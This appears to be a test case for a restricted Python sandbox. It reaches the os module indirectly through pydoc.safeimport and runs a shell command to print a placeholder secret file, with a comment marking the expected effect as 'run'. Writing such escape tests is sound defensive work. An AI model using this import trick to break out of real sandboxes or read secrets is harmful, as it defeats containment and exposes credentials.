# help knows every module that the interpreter can find.
# effect: run
import pydoc
pydoc.safeimport("os").system("cat @SECRET@")
